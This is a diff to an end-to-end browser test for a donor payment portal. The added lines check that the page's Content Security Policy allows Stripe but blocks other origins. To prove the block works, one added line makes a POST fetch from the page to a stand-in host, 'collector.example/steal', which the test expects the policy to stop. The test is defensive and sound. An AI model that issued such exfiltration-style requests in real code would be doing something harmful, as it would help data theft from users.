@@ -79,6 +79,11 @@ test('a donor pledges, pays part of it by card, waits for Stripe’s confirmatio
   await expect(page.getByRole('row', { name: /Paid by Card/ })).toBeVisible();
   await expect(page.getByRole('button', { name: 'Print or save as PDF' })).toBeVisible();
   expect(stripe.confirmations.map((c) => c.card)).toEqual(['4000000000000002', '4242424242424242']);
+  // The portal's CSP let Stripe.js load from js.stripe.com and reach api.stripe.com, and blocked nothing.
+  expect(stripe.cspViolations).toEqual([]);
+  // …and it refuses any other origin.
+  await page.evaluate(() => fetch('https://collector.example/steal', { method: 'POST' }).catch(() => null));
+  await expect.poll(() => stripe.cspViolations.join('\n')).toMatch(/collector\.example.*connect-src/s);
   await checkPage(page, 'donor-receipt');
 
   // Home: the schedule shows what is outstanding; the contribution has its receipt.
